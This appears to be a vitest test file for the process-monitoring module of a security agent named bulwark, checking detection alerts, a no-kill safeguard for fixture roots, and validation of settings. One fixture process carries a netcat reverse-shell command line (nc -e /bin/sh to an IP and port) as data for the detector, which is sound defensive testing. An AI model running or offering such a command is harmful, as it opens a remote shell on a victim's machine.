import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { createLogger } from '../../../core/logger.js';
import { procEntry, scratchDirs, writeTree } from '../../test-support/tree.js';
import { AGENT_MODULES } from '../../modules.js';
import { processModule } from './process-module.js';

const scratch = scratchDirs('bulwark-procmod-');
afterAll(scratch.cleanup);

describe('processes module of bulwark agent run', () => {
  it('is registered', () => {
    expect(AGENT_MODULES.map((create) => create().name)).toContain('processes');
  });

  it('sends process alerts through the daemon; never acts on pids of a fixture root', async () => {
    const root = writeTree({ ...procEntry(10, { name: 'nc', argv: ['nc', '-e', '/bin/sh', '10.0.0.1', '4444'], exe: '/usr/bin/nc' }) }, scratch.make());
    const state = join(scratch.make(), 'state');
    mkdirSync(state);
    writeFileSync(join(state, 'processes.yaml'), 'intervalSeconds: 3600\nsampleSeconds: 0.1\n');
    writeFileSync(join(state, 'response.yaml'), 'rules:\n  - {match: "bulwark.process.*", action: kill}\n');
    const sent: Array<Record<string, unknown>> = [];
    const module = processModule();
    await module.start({ hostId: 'h', stateDir: state, root, logger: createLogger({ level: 'fatal', name: 'test' }), sendEvents: async (docs) => void sent.push(...docs) });
    for (let i = 0; i < 200 && sent.length === 0; i++) await new Promise((r) => setTimeout(r, 25));
    await module.stop();
    expect(sent.map((d) => (d.rule as { id: string }).id)).toEqual(['bulwark.process.netcat-exec']);
    expect(existsSync(join(state, 'actions.jsonl'))).toBe(false);
  });

  it('refuses bad settings naming the field', async () => {
    const state = scratch.make();
    writeFileSync(join(state, 'processes.yaml'), 'intervalSeconds: 1\n');
    await expect(processModule().start({ hostId: 'h', stateDir: state, root: '/', logger: createLogger({ level: 'fatal', name: 'test' }), sendEvents: async () => undefined })).rejects.toThrow(/intervalSeconds/);
  });
});
